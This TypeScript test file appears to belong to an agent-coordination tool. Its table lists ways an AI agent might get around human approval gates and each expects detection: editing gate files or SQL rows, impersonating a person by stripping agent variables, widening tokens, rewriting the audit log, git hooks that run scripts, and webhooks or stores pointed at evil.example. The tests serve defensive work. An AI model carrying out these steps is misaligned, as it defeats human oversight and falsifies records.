import { spawnSync } from 'node:child_process'
import { hash } from 'node:crypto'
import { chmodSync, cpSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { archived } from '../folders/package.ts'
import { BATON, cleanEnv, onTerminal, trusted } from '../support/program/command.ts'
import type { Way } from './way.ts'
import { AGENT_ENV, type World } from './world.ts'

const APPROVED = 'gate_response:\n  decision: approve\n  by: maria\n'
const sync = (w: World) => w.cli('folders', 'sync')
const settings = (w: World, text: string) => w.write('baton.yaml', `${w.read('baton.yaml')}\n${text}\n`)
const approveInFile = (w: World) => w.write(archived(w.gate), `${w.read(archived(w.gate))}${APPROVED}`)
const accepting = (w: World) => {
  w.edit('baton.yaml', 'path: .', 'path: .\n    accept: [gate]')
  approveInFile(w)
}
/** The column that tells workspaces of one database apart. */
const ws = ({ engine }: World) => (engine === 'postgres' ? 'ws, ' : '')
/** Sets a field of a JSON row. */
const set = (table: string, field: string, value: string, where: string) =>
  `UPDATE ${table} SET doc = json_set(doc, '$.${field}', ${value}) WHERE ${where}`
const script = (w: World, path: string) => {
  writeFileSync(path, `#!/bin/sh\ntouch ${w.home}/ran\n`)
  chmodSync(path, 0o755)
  return path
}

const DECIDES = (w: World) => ['decide', w.gate, 'approve', '--as', 'maria']
const SAYS_YES = { steps: [['approve HO-', 'y\n']] } as const
/** Runs the command below a shell of the agent, without the agent's variables. */
const cleared = (w: World, command: string) => {
  const env = { ...cleanEnv(w.person), ...AGENT_ENV }
  const clean = `env -u CLAUDECODE -u BATON_AGENT ${process.execPath} ${BATON} ${command}; true`
  const { stdout, stderr } = spawnSync('sh', ['-c', clean], { cwd: w.root, env, encoding: 'utf8' })
  return stdout + stderr
}
const forget = (w: World, ...names: readonly string[]) => {
  for (const name of names) rmSync(join(w.home, '.baton', name), { recursive: true })
}

/** Ways past Baton: files, settings, git and SQL, each on a world of its own. */
// biome-ignore format: read as a table
export const TAMPERING: readonly Way[] = [
  { goal: 'approve a gate', door: 'files', threat: 'T12', how: 'writes the decision into the file of the gate',
    go: (w) => { approveInFile(w); return sync(w) }, refused: /a file cannot decide a gate/, adds: ['file.refused'] },
  { goal: 'approve a gate', door: 'settings', threat: 'T12', how: 'lets files decide by accept in baton.yaml',
    go: (w) => { accepting(w); return sync(w) }, refused: /a file cannot decide a gate/, adds: ['file.refused'] },
  { goal: 'approve a gate', door: 'environment', threat: 'T12', how: 'trusts accept by BATON_TRUST',
    go: (w) => { accepting(w); return w.with({ BATON_TRUST: hash('sha256', w.read('baton.yaml')) }, 'folders', 'sync') }, refused: /a file cannot decide a gate/, adds: ['file.refused'] },
  { goal: 'approve a gate', door: 'environment', threat: 'T12', how: 'brings a home of its own with a record of trust',
    go: (w) => {
      accepting(w)
      const own = join(w.root, 'own/.baton/trust')
      mkdirSync(own, { recursive: true })
      writeFileSync(join(own, `${hash('sha256', w.root)}.json`), JSON.stringify({ root: w.root, sha256: hash('sha256', w.read('baton.yaml')), settings: ['folders[].accept'] }), { mode: 0o600 })
      return w.with({ BATON_HOME: w.at('own') }, 'folders', 'sync')
    }, found: /✗ settings.*accept wait for: baton trust/ },
  { goal: 'approve a gate', door: 'files', threat: 'T12', how: 'writes the state file of the folder',
    go: async (w) => { w.edit('state/current.json', /"status": "[^"]+"/, '"status": "COMPLETED"'); return sync(w) }, found: /✗ folders.*current\.json/ },
  { goal: 'approve a gate', door: 'SQL', threat: 'T1', how: 'deletes the row of the gate',
    go: (w) => w.sql(`DELETE FROM handoff WHERE id = '${w.gate}'`), found: /✗ folders.*the engine knows no such handoff/ },
  { goal: 'verify its own work', door: 'settings', threat: 'T12', how: 'lists itself as the verifier',
    go: (w) => { settings(w, 'verification:\n  verifiers: [codex]\n  chief: codex'); return w.cli('verify', w.own, '--pass') }, refused: /exit 4[\s\S]*codex may not verify/ },
  { goal: 'verify its own work', door: 'settings', threat: 'T12', how: 'gives itself the role of a verifier',
    go: (w) => { settings(w, 'agents:\n  codex: { roles: [verifier, chief, pm] }\n  gemini: {}\n  planner: {}'); return w.cli('verify', w.own, '--pass') }, refused: /exit 4[\s\S]*codex may not verify/ },

  { goal: 'act as another', door: 'files', threat: 'T4', how: 'writes a file that another agent sends',
    go: (w) => { w.write(archived('HO-2026-099'), w.read(archived(w.gate)).replaceAll(w.gate, 'HO-2026-099').replaceAll('codex', 'planner')); return sync(w) }, refused: /is already the file of/, adds: ['file.refused'] },

  { goal: 'act as another', door: 'CLI', threat: 'T4', how: 'accepts work under the name of the agent that it is for',
    go: (w) => w.cli('accept', w.other, '--as', 'gemini'), found: /✗ callers.*handoff\.accept of \S+ as gemini at \S+: BATON_AGENT named codex/ },
  { goal: 'verify its own work', door: 'CLI', threat: 'T4', how: 'verifies under the name of the sender',
    go: (w) => w.cli('verify', w.own, '--pass', '--as', 'planner'), found: /✗ callers.* as planner at \S+: BATON_AGENT named codex/ },
  { goal: 'approve a gate', door: 'environment', threat: 'T12', how: 'opens a terminal of its own, without its variables',
    go: (w) => onTerminal(w.person, DECIDES(w), SAYS_YES).shown, found: /✗ callers.*gate\.approve of \S+ as maria at \S+: (the terminal was opened for this command|\w+ is set)/ },
  { goal: 'act as another', door: 'environment', threat: 'T11', how: 'takes its variables away and makes a token of the person',
    go: (w) => cleared(w, "token create --agent maria --scope '*'"), found: /✗ callers.*token\.create of \S+ as \S+ at \S+: CLAUDECODE is set in a process above/ },
  { goal: 'widen its rights', door: 'environment', threat: 'T12', how: 'takes its variables away and makes itself a person',
    go: (w) => cleared(w, 'agent add codex --kind human'), found: /✗ callers.* as \S+ at \S+: CLAUDECODE is set in a process above/ },
  { goal: 'change history', door: 'files', threat: 'T25', how: 'deletes the key of the log',
    go: (w) => forget(w, 'keys'), found: /✗ key.*the key that signed this log is not in \S+ any more/ },
  { goal: 'change history', door: 'files', threat: 'T25', how: 'deletes what the home remembers of the store',
    go: (w) => forget(w, 'stores', 'trust-log'), found: /✗ key.*what you remembered of that log is gone/ },

  { goal: 'widen its rights', door: 'files', threat: 'T12', how: 'opens the folder of the store to other users',
    go: (w) => chmodSync(w.at('.baton'), 0o777), found: /can be written by other users/ },
  { goal: 'widen its rights', door: 'files', threat: 'T21', how: 'takes away what keeps git from the store',
    go: (w) => rmSync(w.at('.baton/.gitignore')), found: /has no \.gitignore/ },

  { goal: 'get a command run', door: 'settings', threat: 'T12', how: 'lists a command under checks',
    go: (w) => { settings(w, 'checks:\n  commands: ["touch ../ran"]'); return w.cli('send', '--to', 'maria', '--type', 'gate', '--gate', 'auto:x', '--check', 'command: touch ../ran', '--title', 'x', '--summary', 'Something that is long enough') }, found: /✗ settings.*checks\.commands wait for: baton trust/ },
  { goal: 'get a command run', door: 'settings', threat: 'T12', how: 'adds a runner',
    go: (w) => { settings(w, 'runners:\n  codex: { command: [touch, ../ran] }'); return w.cli('status') }, found: /✗ settings.*runners wait for: baton trust/ },
  { goal: 'get a command run', door: 'settings', threat: 'T12', how: 'widens a runner that a person trusts',
    go: (w) => {
      settings(w, 'runners:\n  gemini: { command: [touch, ../ran], from: [maria] }')
      trusted(w.person)
      w.edit('baton.yaml', ', from: [maria]', '')
      return cleared(w, 'run --once; echo exit $?')
    }, refused: /exit 0[\s\S]*sets runners, which takes effect only after: baton trust/ },
  { goal: 'get a command run', door: 'environment', threat: 'T12', how: 'takes its variables away and starts the runner of another',
    go: (w) => {
      settings(w, 'runners:\n  gemini: { command: ["true"] }')
      trusted(w.person)
      return cleared(w, 'run --once')
    }, found: /✗ callers.* as gemini at \S+: CLAUDECODE is set in a process above/ },
  { goal: 'get a command run', door: 'git', threat: 'T21', how: 'sets a monitor and a pager in the config of the repository',
    go: (w) => { const path = script(w, join(w.home, 'evil')); for (const key of ['core.fsmonitor', 'core.pager', 'core.sshCommand', 'diff.external', 'credential.helper']) w.git('config', key, path); return w.cli('merge-check', 'main') }, refused: /exit 3/ },
  { goal: 'get a command run', door: 'git', threat: 'T21', how: 'puts hooks where the config points',
    go: (w) => { mkdirSync(w.at('hooks')); for (const name of ['post-checkout', 'pre-commit', 'reference-transaction']) script(w, w.at(`hooks/${name}`)); w.git('config', 'core.hooksPath', 'hooks'); return w.cli('merge-check', 'main') }, refused: /exit 3/ },
  { goal: 'get a command run', door: 'settings', threat: 'T18', how: 'sends messages to an address of its own',
    go: (w) => { settings(w, 'notify:\n  - { name: x, webhook: "https://evil.example/", secret_env: X }'); return w.cli('status') }, found: /✗ settings.*notify wait for: baton trust/ },
  { goal: 'get a command run', door: 'settings', threat: 'T12', how: 'moves the store to a server of its own',
    go: (w) => { settings(w, 'store: postgres://evil.example/baton'); return w.cli('status') }, found: /✗ settings.*store wait for: baton trust/ },

  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'deletes an entry of the log',
    go: (w) => w.sql('DELETE FROM entry WHERE id = (SELECT id FROM entry ORDER BY id DESC LIMIT 1 OFFSET 8)'), found: /✗ log.*broken/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'exchanges an actor in an entry',
    go: (w) => w.sql(w.engine === 'sqlite' ? `UPDATE entry SET body = CAST(replace(CAST(body AS TEXT), '"id":"codex"', '"id":"maria"') AS BLOB)` : `UPDATE entry SET body = convert_to(replace(convert_from(body, 'UTF8'), '"id":"codex"', '"id":"maria"'), 'UTF8')`), found: /✗ log.*broken/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'cuts off the end of a chain',
    go: (w) => w.sql(`DELETE FROM entry WHERE act = 'handoff.submit'`), found: /✗ log.*does not end with the remembered entry/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'deletes the whole log',
    go: (w) => w.sql('DELETE FROM entry'), found: /✗ log.*broken/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'deletes the chain of a handoff with its head',
    go: (w) => w.sql(`DELETE FROM entry WHERE stream = (SELECT root FROM handoff WHERE id = '${w.own}')`, `DELETE FROM stream WHERE uid = (SELECT root FROM handoff WHERE id = '${w.own}')`), found: /✗ log.*its leaf is not that of its entry/ },
  { goal: 'change history', door: 'files', threat: 'T1', how: 'writes noise into the store', only: 'sqlite',
    go: (w) => writeFileSync(w.store, Buffer.alloc(20_000, 'x')), found: /✗ store/ },
  { goal: 'change history', door: 'files', threat: 'T25', how: 'deletes the store', only: 'sqlite',
    go: (w) => rmSync(w.store), found: /✗ folders.*the engine knows no such handoff/ },

  { goal: 'approve a gate', door: 'settings', threat: 'T12', how: 'lets silence decide in place of the person',
    go: (w) => { settings(w, 'people:\n  silence: { policy: reassign, after: 1s, to: codex }'); return w.cli('status') }, found: /✗ settings.*people\.silence.*wait for: baton trust/ },
  { goal: 'widen its rights', door: 'SQL', threat: 'T12', how: 'plants a trigger that widens every new token',
    go: (w) => (w.engine === 'sqlite' ? w.sql(`CREATE TRIGGER widen AFTER INSERT ON token BEGIN UPDATE token SET doc = ''; END`) : w.sql('CREATE FUNCTION tools.widen() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$', 'CREATE TRIGGER widen BEFORE INSERT ON token FOR EACH ROW EXECUTE FUNCTION tools.widen()')), found: /✗ store.*widen/ },
  { goal: 'widen its rights', door: 'settings', threat: 'T12', how: 'names itself a person in baton.yaml',
    go: (w) => { settings(w, 'agents:\n  codex: { kind: human }\n  boss: { kind: human }\n  gemini: {}\n  planner: {}'); return w.with({ CLAUDECODE: '', BATON_AGENT: '' }, 'token', 'create', '--as', 'boss', '--agent', 'boss', '--scope', '*') }, found: /✗ settings.*wait for: baton trust/ },
  { goal: 'widen its rights', door: 'git', threat: 'T21', how: 'adds the store to git, so that a clone brings it', only: 'sqlite',
    go: (w) => { w.git('add', '--force', '.baton/baton.db') }, found: /✗ store.*git/ },

  { goal: 'approve a gate', door: 'SQL', threat: 'T1', how: 'sets the row of the gate to completed',
    go: (w) => w.sql(`UPDATE handoff SET state = 'completed' WHERE id = '${w.gate}'`, set('handoff', 'state', "'completed'", `id = '${w.gate}'`)), found: /✗ rows/ },
  { goal: 'approve a gate', door: 'SQL', threat: 'T1', how: 'takes the gate off the work that it holds up',
    go: (w) => w.sql(`UPDATE handoff SET parent = NULL WHERE id = '${w.gate}'`, `UPDATE handoff SET doc = json_remove(doc, '$.parent') WHERE id = '${w.gate}'`), found: /✗ rows/ },
  { goal: 'verify its own work', door: 'SQL', threat: 'T1', how: 'sets its row to verified by the sender',
    go: (w) => w.sql(`UPDATE handoff SET state = 'completed' WHERE id = '${w.own}'`, set('handoff', 'verified_by', "'planner'", `id = '${w.own}'`)), found: /✗ rows/ },
  { goal: 'verify its own work', door: 'SQL', threat: 'T1', how: 'makes itself the sender of its work',
    go: (w) => w.sql(set('handoff', 'from', "'codex'", `id = '${w.own}'`)), found: /✗ rows/ },
  { goal: 'verify its own work', door: 'SQL', threat: 'T1', how: 'exchanges the evidence after it was handed in',
    go: (w) => w.sql(`UPDATE content SET doc = replace(doc, 'trust me', 'all tests pass')`), found: /✗ rows/ },
  { goal: 'act as another', door: 'SQL', threat: 'T11', how: 'puts a token of the person into the store',
    go: (w) => w.sql(`INSERT INTO token (${ws(w)}hash, doc) SELECT ${ws(w)}'${hash('sha256', 'baton_mine')}', json_set(json_set(json_set(doc, '$.uid', 'mine'), '$.agent', 'maria'), '$.hash', '${hash('sha256', 'baton_mine')}') FROM token LIMIT 1`), found: /✗ rows/ },
  { goal: 'act as another', door: 'SQL', threat: 'T11', how: 'makes a revoked token good again',
    go: (w) => w.sql(`UPDATE token SET doc = json_remove(doc, '$.revoked_at')`), found: /✗ rows/ },
  { goal: 'act as another', door: 'SQL', threat: 'T11', how: 'gives its token to the person',
    go: (w) => w.sql(set('token', 'agent', "'maria'", "json_extract(doc, '$.agent') = 'codex'")), found: /✗ rows/ },
  { goal: 'act as another', door: 'SQL', threat: 'T4', how: 'gives the work of another agent to itself',
    go: (w) => w.sql(`UPDATE handoff SET to_agent = 'codex' WHERE id = '${w.other}'`, set('handoff', 'to', "'codex'", `id = '${w.other}'`)), found: /✗ rows/ },
  { goal: 'widen its rights', door: 'SQL', threat: 'T12', how: 'makes itself a person in the table of agents',
    go: (w) => w.sql(set('agent', 'kind', "'human'", "name = 'codex'")), found: /✗ rows/ },
  { goal: 'widen its rights', door: 'SQL', threat: 'T12', how: 'adds a person to the table of agents',
    go: (w) => w.sql(`INSERT INTO agent (${ws(w)}name, doc) SELECT ${ws(w)}'boss', json_set(doc, '$.name', 'boss') FROM agent WHERE name = 'maria'`), found: /✗ rows/ },
  { goal: 'widen its rights', door: 'SQL', threat: 'T12', how: 'widens the scopes of its token',
    go: (w) => w.sql(`UPDATE token SET doc = replace(doc, 'handoff:read', '*') WHERE doc LIKE '%handoff:read%'`), found: /✗ rows/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'exchanges a text that the log discloses',
    go: (w) => w.sql(`UPDATE entry SET disclosures = '[]' WHERE act = 'handoff.submit'`), found: /✗ rows/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'deletes tree and checkpoints',
    go: (w) => w.sql('DELETE FROM tree', 'DELETE FROM tile', 'DELETE FROM checkpoint'), found: /✗ checkpoint/ },
  { goal: 'change history', door: 'SQL', threat: 'T23', how: 'rewrites the title that people read',
    go: (w) => w.sql(set('handoff', 'title', "'Verified by maria'", `id = '${w.own}'`)), found: /✗ rows/ },
  { goal: 'change history', door: 'SQL', threat: 'T1', how: 'deletes the row of an agent that acted',
    go: (w) => w.sql(`DELETE FROM agent WHERE name = 'gemini'`), found: /✗ rows/ },
  { goal: 'change history', door: 'files', threat: 'T25', how: 'puts an older copy of the store in its place', only: 'sqlite',
    go: async (w) => {
      cpSync(w.store, join(w.home, 'old.db'))
      await w.cli('submit', w.own)
      await w.with({ CLAUDECODE: '', BATON_AGENT: 'planner' }, 'send', '--to', 'gemini', '--title', 'x', '--summary', 'Something that is long enough', '--home', 'native')
      await w.with({ CLAUDECODE: '', BATON_AGENT: '' }, 'audit', 'checkpoint')
      cpSync(join(w.home, 'old.db'), w.store)
    }, found: /✗ (store|log|checkpoint)/ },
]
